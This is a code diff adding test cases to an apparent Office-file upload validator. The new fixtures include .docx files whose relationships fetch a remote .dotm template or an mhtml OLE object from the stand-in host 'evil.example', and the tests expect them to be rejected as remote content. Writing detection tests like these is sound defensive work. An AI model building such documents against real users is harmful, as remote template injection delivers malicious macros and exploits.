@@ -288,6 +288,17 @@ def office_cases() -> list[Case]:
         Case("docm-type-only", "x.docx", lambda: b.docx(b.DOCM_MAIN), "ooxml_macro"),
         Case("docx-with-vba", "x.docx", lambda: b.docx(vba=True), "ooxml_macro"),
         Case("xlsm-as-xlsx", "x.xlsx", b.xlsm_renamed, "ooxml_macro"),
+        Case("docx-remote-template", "x.docx", lambda: b.docx(extra={
+            "word/_rels/settings.xml.rels": b.external_rels(
+                "attachedTemplate", "http://evil.example/t.dotm")}), "ooxml_remote_content"),
+        Case("docx-remote-oleobject", "x.docx", lambda: b.docx(extra={
+            "word/_rels/document.xml.rels": b.external_rels(
+                "oleObject", "mhtml:http://evil.example/!x")}), "ooxml_remote_content"),
+        Case("docx-external-hyperlink", "x.docx", lambda: b.docx(extra={
+            "word/_rels/document.xml.rels": b.external_rels(
+                "hyperlink", "https://www.example.go.th/")}), ACCEPTED),
+        Case("docx-embedded-object", "x.docx", lambda: b.docx(extra={
+            "word/embeddings/oleObject1.bin": b.doc()}), ACCEPTED),
         Case("docx-as-xlsx", "x.xlsx", _docx, "file_extension_mismatch"),
         Case("xlsx-as-docx", "x.docx", _xlsx, "file_extension_mismatch"),
         Case("pptx-as-docx", "x.docx", lambda: b.docx(
